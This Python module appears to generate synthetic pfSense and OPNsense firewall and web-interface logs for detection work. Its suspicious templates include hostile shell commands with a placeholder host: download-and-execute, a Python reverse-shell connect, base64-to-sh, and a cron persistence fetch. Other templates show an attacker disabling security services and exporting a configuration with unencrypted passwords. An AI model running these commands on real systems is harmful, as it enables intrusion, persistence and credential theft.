"""pfSense and OPNsense: the packet filter's rows, the web interface, and the services beside it."""

from __future__ import annotations

from generator.families.network.envelope import Envelope
from generator.families.network.product_story import catalogue_in_parts
from generator.families.network.product_values import ProductValues


def _row(envelope: Envelope, values: ProductValues, message: str) -> str:
    """`interface direction action protocol source:port target:port [flags]` as filterlog writes it; other text is a program's."""
    if ">> " in message:
        program, text = message.split(">> ", 1)
        return envelope.line(program, text, envelope.world.pid())
    world = envelope.world
    interface, direction, action, protocol, source, target, *flags = message.split(" ")
    source, source_port = source.rsplit(":", 1)
    target, target_port = target.rsplit(":", 1)
    rule, tracker = envelope.kept.setdefault("rule", (world.number(2, 120), world.pick([world.number(10**9, 2 * 10**9), 1000000103, world.hex(32)])))
    head = f"{rule},,,{tracker},{interface},match,{action},{direction}"
    if ":" in source:
        rest = f"6,0x00,0x{world.hex(5)},{world.number(1, 255)},{protocol},{ {'tcp': 6, 'udp': 17}.get(protocol, 58) },{world.number(20, 900)},{source},{target}"
    else:
        rest = f"4,0x0,,{world.number(30, 128)},{world.number(0, 65535)},0,{world.pick(['DF', 'none'])},{ {'tcp': 6, 'udp': 17}.get(protocol, 1) },{protocol},{world.number(28, 1400)},{source},{target}"
    if protocol in ("tcp", "udp"):
        length = world.number(0, 300)
        rest += f",{source_port},{target_port},{length}"
        if protocol == "tcp":
            rest += f",{flags[0] if flags else 'S'},{world.number(10**6, 4 * 10**9)},,{world.pick([1024, 8192, 64240, 65535])},,{world.pick(['', 'mss', 'mss;nop;wscale'])}"
    else:
        rest += f",request,{world.number(1, 60000)},{world.number(1, 900)}"
    return envelope.line("filterlog", f"{head},{rest}", world.pid())


catalogue_in_parts("gateways/sense-filter", _row, r"""
PO# igb0 in block tcp {wan}:{port} {wan2}:<<21|22|23|25|80|110|135|139|143|443|445|993|1433|1521|3306|3389|5432|5900|8080|8443>>
PO# igb1 in block tcp {lan}:{port} 10.0.{n}.{n2}:<<445|3389|22|135|5985>>
PO# vtnet1 in pass tcp {lan}:{port} 192.168.{n}.{n2}:445
DO# em0 in block tcp 203.0.{n}.{n2}:{port} {wan2}:443
+ kernel>> <<sonewconn: pcb 0xf{hex} ([{wan2}]:443 (proto 6)): Listen queue overflow: 193 already in queue awaiting acceptance ({big} occurrences)|[zone: pf states] PF states limit reached>>
C2@T1571 igb1 in pass tcp {lan}:{port} {wan}:4444
+ suricata>> [1:{sid}:2] ET MALWARE Possible Metasploit Payload Common Construct Bind_API (from server) [Classification: A Network Trojan was detected] [Priority: 1] {TCP} {wan}:4444 -> {lan}:{port}
""", r"""
BN igb0 in block tcp {noise}:{port} {wan2}:<<23|22|445|3389|5060|8080|2323|1433>>
BN pppoe0 in block udp {noise}:{port} {wan2}:<<123|161|389|1900|5060|53413>>
BN em0 in block tcp 2001:db8::{n}:{port} 2001:db8:1::{n2}:443 SA
BN igb1 in block udp {lan}:137 {lan2}:137
BN igb1 in block tcp {lan}:{port} {noise}:443 <<FA|RA|PA|A|R>>
BN ix1.20 in block tcp {lan}:{port} {lan2}:<<80|443|8080|445>>
BN igb0 in block icmp {noise}:0 {wan2}:0
BN igb1 in block udp {lan}:5353 224.0.0.251:5353
NT igb1 in pass tcp {lan}:{port} {wan}:443
NT ix1.10 in pass udp {lan}:{port} {lan2}:53
NT igb0 in pass tcp {wan}:{port} {lan}:<<443|25|993|1194>>
MO ix1.10 in pass icmp {lan}:0 {lan2}:0
NT vtnet1 in pass tcp {lan}:{port} 192.168.{few}.{n2}:445
SC# igb1 in pass tcp {lan}:{port} 10.0.{n}.{n2}:<<161|9100|9182|10050|22|443>>
BN kernel>> <<arp: {lan} moved from {mac} to {mac2} on igb1|igb0: link state changed to UP|pflog0: promiscuous mode enabled>>
""")

catalogue_in_parts("gateways/sense-services", ("php-fpm|{msg}", "php-fpm|{msg}", "opnsense|{msg}"), r"""
BS# /index.php: webConfigurator authentication error for user '{adm}' from: {wan}
~ /index.php: Successful login for user '{adm}' from: {wan} (Local Database)
BF# sshguard>> Attack from "{wan}" on service SSH with danger 10.
BF# audit>> /index.php: Web GUI authentication error for '{adm}' from {wan}
PT+@T1136.001 /system_usermanager.php: Configuration Change: {adm}@{wan} (Local Database): <<User {word} added, groups admins|Successfully created user {word} with privilege page-all>>
FW+ /firewall_rules_edit.php: Configuration Change: {adm}@{wan} (Local Database): Firewall: Rules - saved/edited a firewall rule. <<pass in on wan any to any|pass WAN address port 443 from any>>
+ check_reload_status>> Reloading filter
FW@T1090 /firewall_nat_edit.php: Configuration Change: {adm}@{wan} (Local Database): Firewall: NAT: Port Forward, saved WAN 3389 to {lan}:3389 from any
DE@T1562.001 /status_services.php: <<Stopping service suricata|Stopping service pfblockerng|Stopping service syslogd>> by {adm}@{wan} (Local Database)
RX+@T1190,T1059.004 /diag_command.php: Configuration Change: {adm}@{wan}: shell command executed: <<fetch -o /tmp/{word} http://{wan2}/{word} && sh /tmp/{word}|/usr/local/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("{wan2}",{port}))'|echo {long} ¦ openssl base64 -d ¦ sh>>
EX@T1602.002 /diag_backup.php: {word}@{wan} (Local Database): downloaded config.xml with RRD data and unencrypted passwords
C2@T1071.004 unbound>> [{n}:0] info: {lan} {dga}. TXT IN NOERROR 0.{many} 0 {many}
PT@T1053.003 /packages/cron: Configuration Change: {adm}@{wan}: Cron: added root */5 * * * * <<fetch -qo - http://{wan2}/{word}|sh /var/tmp/.{word}>>
""", r"""
LO /index.php: Successful login for user '{adm}' from: {lan} (<<Local Database|LDAP/{host}>>)
MP. /index.php: webConfigurator authentication error for user '{adm}' from: {lan}
LO /index.php: User logged out for user '{adm}' from: {any} (Local Database)
LO audit>> /index.php: Successful login for user '{adm}' from: {any} (Local Database)
AD /firewall_rules_edit.php: Configuration Change: {adm}@{lan} (Local Database): Firewall: Rules - <<saved/edited a firewall rule. (block IoT to LAN)|saved/edited a firewall rule. (pass LAN to DNS)|deleted a firewall rule.|reordered rules>>
AD /<<services_dhcp.php|services_unbound.php|interfaces.php|vpn_openvpn_server.php|system_advanced_admin.php>>: Configuration Change: {adm}@{any} (Local Database): <<Added static mapping {mac}|DNS Resolver configured.|Interfaces: LAN settings changed|VPN: OpenVPN: server edited|changed webgui port>>
AD /system_usermanager.php: Configuration Change: {adm}@{lan} (Local Database): <<User {user} edited, password changed|User {user} added, groups vpnusers|certificate for {user} created>>
AD /firewall_nat_edit.php: Configuration Change: {adm}@{lan} (Local Database): Firewall: NAT: Port Forward, saved WAN 443 to {lan2}:443
AD /status_services.php: <<Restarting service suricata|Starting service syslogd|Restarting service unbound>> by {adm}@{lan} (Local Database)
AD /diag_command.php: Configuration Change: {adm}@{lan}: shell command executed: <<pfctl -ss|df -h|ping -c 3 {site}|fetch -o /tmp/{word}.pkg https://{site}/{word}.pkg>>
BA /diag_backup.php: {adm}@{lan} (Local Database): downloaded config.xml, encrypted
BA AutoConfigBackup>> End of configuration backup to https://acb.netgate.com/save (success).
SY php-cgi>> rc.newwanip: rc.newwanip starting pppoe0. on IP address {wan}
SY dpinger>> WAN_PPPOE {wan}: <<Alarm latency {big}us stddev {n}us loss {pct}%|Clear latency {big}us stddev {n}us loss {few}%>>
SY check_reload_status>> <<Linkup starting igb{few}|updating dyndns WAN_DHCP|Syncing firewall|Restarting OpenVPN tunnels/interfaces>>
LO openvpn>> {user}/{wan}:{port} <<peer info: IV_VER=2.6.8|MULTI_sva: pool returned IPv4={lan}, IPv6=(Not enabled)|SIGUSR1[soft,ping-restart] received, client-instance restarting>>
MP. openvpn>> {wan}:{port} TLS Auth Error: Auth Username/Password verification failed for peer
BN openvpn>> {noise}:{port} TLS Error: <<tls-crypt unwrapping failed from [AF_INET]{noise}:{port}|TLS handshake failed|incoming packet authentication failed from [AF_INET]{noise}:{port}>>
NS unbound>> [{n}:{few}] info: <<generate keytag query _ta-4f66. NULL IN|failed to prime trust anchor -- could not fetch DNSKEY rrset . DNSKEY IN|{lan} {site}. A IN>>
NS dhcpd>> <<DHCPACK on {lan} to {mac} ({pc}) via igb1|DHCPREQUEST for {lan} from {mac} via igb1: unknown lease {lan}.>>
BN sshguard>> <<Exiting on signal.|Now monitoring attacks.>>
UP pkg-static>> <<pfSense-upgrade upgraded: 1.2 -> 1.3|suricata-7.0.{n} installed|os-update: 24.7.{n} available>>
MO snmpd>> Connection from UDP: [{lan}]:{port}->[{lan2}]:161
BN pfblockerng>> DNSBL-python,{time},{site},{lan},Python,DNSBL_A,DNSBL_ADs,<<graph.facebook.com|ads.{ext}|telemetry.{ext}>>,StevenBlack_ADs,+
""")
